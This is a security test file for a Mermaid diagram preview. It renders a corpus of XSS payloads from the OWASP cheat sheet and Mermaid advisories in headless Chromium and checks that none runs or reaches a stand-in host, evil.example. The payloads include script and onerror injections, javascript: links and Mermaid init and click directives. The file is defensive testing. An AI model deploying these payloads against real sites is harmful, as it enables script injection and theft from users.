/**
 * An XSS corpus in the real preview page (headless Chromium): payload shapes from Mermaid's
 * published advisories (javascript: links and click directives, %%{init}%% directives with
 * securityLevel/themeCSS, entity codes such as #lt;script#gt;, markdown strings, foreignObject
 * breakouts) and the OWASP XSS filter-evasion cheat sheet, written as stage names, transition
 * labels and ids of a tactic, drawn through the real pipeline (service.flowchart → update message
 * → dist/webview/preview.js). Nothing executes (a trap records any call or marker write), no
 * request leaves for anything but the page's own three files, no markup reaches the DOM (no CSP
 * violation at all), and every label appears as literal text. Run after `npm run build`, under
 * the heavy lock on the shared machine.
 */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { updateMessage } from '../../client/src/preview/updateMessage';
import { launchChromium } from '../helpers/chromium';
import { openPreviewPage } from '../helpers/previewPage';
import { PreviewServer, servePreviewPage } from '../helpers/previewServer';
import { ROOT, service } from '../helpers/service';

declare const window: any;

const SCRIPT = join(ROOT, 'dist', 'webview', 'preview.js');
const URI = 'file:///ws/xss.tactic.yaml';
const EVIL = 'http://evil.example';

/** Every payload calls or sets something the trap watches, or loads from EVIL. */
const PAYLOADS = [
  // OWASP filter-evasion cheat sheet shapes
  '<script>__pwn(1)</script>',
  '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:__pwn(2);">',
  '<IMG SRC=JaVaScRiPt:__pwn(3)>',
  '<IMG """><SCRIPT>__pwn(4)</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwn(5)>',
  '<<SCRIPT>__pwn(6);//<</SCRIPT>',
  '<svg/onload=__pwn(7)>',
  '<img src=x onerror=__pwn(8)>',
  '<BODY ONLOAD=__pwn(9)>',
  '<iframe src="javascript:__pwn(10)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwn(11)</script>"></iframe>',
  '<details open ontoggle=__pwn(12)>',
  '<a href="javascript:__pwn(13)">click me</a>',
  '<math><mi xlink:href="javascript:__pwn(14)">x</mi></math>',
  '<STYLE>@import"http://evil.example/xss.css";</STYLE>',
  '<DIV STYLE="background-image: url(http://evil.example/bg.png)">x</DIV>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:__pwn(15);">',
  '<BASE HREF="http://evil.example/">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/s.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd24oMTYpPg==">',
  '\';__pwn(17)//";__pwn(17)//--></SCRIPT>">\'><SCRIPT>__pwn(17)</SCRIPT>',
  '<IMG SRC=" &#14;  javascript:__pwn(18);">',
  '¼script¾__pwn(19)¼/script¾',
  '<!--[if gte IE 4]><SCRIPT>__pwn(20)</SCRIPT><![endif]-->',
  '<input autofocus onfocus=__pwn(21)>',
  '<video><source onerror="__pwn(22)">',
  '<form><button formaction=javascript:__pwn(23)>x',
  // Mermaid advisories and Mermaid syntax
  '%%{init: {"securityLevel": "loose", "startOnLoad": true}}%%',
  '%%{init: {"themeCSS": "} * { background: url(http://evil.example/t.png) } {"}}%%',
  '%%{init: {"fontFamily": "\\"></style><img src=x onerror=__pwn(24)>"}}%%',
  'x"] --> y["y"]\n  click y call __pwn(25)',
  'click n0 call __pwn(26)',
  'click n0 href "javascript:__pwn(27)"',
  'n0:::evil --> n1',
  'style n0 fill:url(http://evil.example/f.png)',
  'classDef evil fill:#f00,background:url(http://evil.example/c.png)',
  '#lt;script#gt;__pwn(28)#lt;/script#gt;',
  '#60;img src=x onerror=__pwn(29)#62;',
  '&lt;img src=x onerror=__pwn(30)&gt;',
  '"`<img src=x onerror=__pwn(31)>`"',
  '`**bold** <img src=x onerror=__pwn(32)>`',
  '</foreignObject><script>__pwn(33)</script>',
  ']]><script>__pwn(34)</script>',
  'end\nsubgraph evil\nclick n1 call __pwn(35)\nend',
  'javascript:__pwn(36)',
  'data:text/html;base64,PHNjcmlwdD5fX3B3bigzNyk8L3NjcmlwdD4=',
  '\u202Egnp.exe\u202C <b onmouseover=__pwn(38)>',
  '{{constructor.constructor("__pwn(39)")()}}',
  '${__pwn(40)}',
];

/** Valid ids that are Mermaid keywords or look like URLs and handlers. */
const IDS = ['click', 'end', 'graph', 'flowchart', 'subgraph', 'style', 'classdef', 'class', 'linkstyle', 'call', 'href', 'javascript', 'default', 'direction', 'onerror', 'n0'];

function tactic(): { text: string; names: string[]; whens: string[] } {
  const n = PAYLOADS.length;
  const id = (i: number) => (i < IDS.length ? IDS[i] : `s${i}-${IDS[i % IDS.length]}`);
  const names = PAYLOADS;
  const whens = PAYLOADS.map((_, i) => PAYLOADS[(i + 7) % n]);
  const stages = PAYLOADS.map((name, i) => {
    const next = i + 1 < n ? `\n      next:\n        - { to: ${id(i + 1)}, when: ${JSON.stringify(whens[i])} }` : '\n      outcome: won';
    return `    - id: ${id(i)}\n      name: ${JSON.stringify(name)}${next}`;
  }).join('\n');
  return { text: `tactic: XSS\nsales_cycle:\n  start: ${id(0)}\n  stages:\n${stages}\n`, names, whens: whens.slice(0, n - 1) };
}

const normalize = (s: string | null) => (s ?? '').replace(/\s+/g, ' ').trim();

describe('XSS corpus in the preview', () => {
  let browser: Browser;
  let server: PreviewServer;
  let origin: string;
  let page: Page;
  const requests: string[] = [];
  const cspViolations: string[] = [];
  const dialogs: string[] = [];

  before(async () => {
    assert.ok(existsSync(SCRIPT), 'dist/webview/preview.js is built (npm run build)');
    server = await servePreviewPage(URI);
    origin = server.origin;
    browser = await launchChromium();
    const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
    // Every request the page makes is recorded; only its own three files are served.
    const own = new Set(server.ownUrls);
    await context.route('**/*', (route) => {
      const url = route.request().url();
      if (own.has(url)) return route.continue();
      requests.push(url);
      return route.abort();
    });
    page = await context.newPage();
    page.on('websocket', (ws) => requests.push(ws.url()));
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await openPreviewPage(page, origin, cspViolations, () => {
      const w = window as any;
      w.__pwned = [];
      // The trap: every payload ends up calling __pwn, alert or friends if it runs.
      w.__pwn = (n: unknown) => w.__pwned.push(n);
      for (const f of ['alert', 'confirm', 'prompt', 'print']) w[f] = (...a: unknown[]) => w.__pwned.push(`${f}(${a.join(',')})`);
      w.__posted = [];
      w.acquireVsCodeApi = () => ({ postMessage: (m: unknown) => w.__posted.push(m), getState: () => undefined, setState: () => undefined });
    });
  });

  after(async () => {
    await browser?.close();
    await server?.close();
  });

  it('draws every payload as literal text and runs nothing', async () => {
    const { text, names, whens } = tactic();
    assert.deepEqual(service.validate(text).filter((d) => d.code === 'schema' || d.code === 'yaml-syntax'), [], 'the tactic itself is valid');
    const chart = service.flowchart(service.parse(text));
    assert.equal(chart.ok, true);
    const msg = updateMessage({ uri: URI, version: 1, ...chart }, 'xss.tactic.yaml');
    await page.evaluate((m) => window.postMessage(m, '*'), msg);
    await page.waitForFunction(() => (window as any).__posted.some((m: any) => m.type === 'rendered' && m.version === 1), undefined, { timeout: 60_000 });
    assert.deepEqual((await page.evaluate(() => (window as any).__posted)).filter((m: any) => m.type === 'rendered'), [{ type: 'rendered', version: 1, ok: true }]);

    const nodeLabels = await page.$$eval('#diagram g.node', (ns) => ns.map((n) => n.textContent));
    assert.deepEqual(nodeLabels.map(normalize), names.map(normalize));
    const edgeLabels = await page.$$eval('#diagram g.edgeLabel', (ls) => ls.map((l) => l.textContent));
    assert.deepEqual(edgeLabels.map(normalize).filter(Boolean).sort(), whens.map(normalize).sort());

    // Click every node: a click directive smuggled into a label would fire here.
    const count = nodeLabels.length;
    for (let i = 0; i < count; i++) await page.click(`#diagram g.node >> nth=${i}`);
    await page.mouse.move(10, 10);
    await page.waitForTimeout(300);

    assert.deepEqual(await page.evaluate(() => (window as any).__pwned), [], 'no payload ran');
    assert.deepEqual(dialogs, []);
    const markup = await page.$$eval('#diagram img, #diagram script, #diagram iframe, #diagram object, #diagram embed, #diagram a, #diagram meta, #diagram base, #diagram link, #diagram form, #diagram input, #diagram math, #diagram details, #diagram video, #diagram b, #diagram strong', (els) => els.map((e) => e.outerHTML));
    assert.deepEqual(markup, [], 'no payload markup in the diagram');
    const handlers = await page.$$eval('#diagram *', (els) => els.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name) || /javascript:|evil\.example/i.test(a.value)).map((a) => `${e.tagName} ${a.name}=${a.value}`)));
    assert.deepEqual(handlers, []);
  });

  it('made no request beyond its own files, and no CSP violation', () => {
    assert.deepEqual(requests.filter((r) => r.startsWith(EVIL)), [], 'nothing reached for the payloads\' server');
    assert.deepEqual(requests, []);
    assert.deepEqual(cspViolations, []);
  });
});
